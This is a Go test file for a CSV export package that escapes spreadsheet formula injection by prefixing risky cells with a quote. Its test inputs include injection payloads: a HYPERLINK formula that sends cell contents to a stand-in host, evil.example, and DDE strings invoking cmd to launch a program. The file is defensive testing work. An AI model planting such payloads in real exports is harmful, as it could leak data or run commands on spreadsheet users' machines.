package csvexport

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"Kovács Péter", "Kovács Péter"},
		{`=HYPERLINK("https://evil.example/?d="&A1,"Kattints")`, `'=HYPERLINK("https://evil.example/?d="&A1,"Kattints")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"+36 30 123 4567", "'+36 30 123 4567"},
		{"a=1", "a=1"},
		{" =1+1", " =1+1"},
		{"'already quoted", "'already quoted"},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestWriterRoundTrip(t *testing.T) {
	record := []string{"=1+1", "Kovács, Péter", "a \"quoted\"\nline", "@x", "plain", "-5"}
	orig := append([]string(nil), record...)
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write([]string{"a", "b", "c", "d", "e", "f"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(orig, record); diff != "" {
		t.Errorf("Write changed its argument (-before +after):\n%s", diff)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"a", "b", "c", "d", "e", "f"}, {"'=1+1", "Kovács, Péter", "a \"quoted\"\nline", "'@x", "plain", "'-5"}}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
}
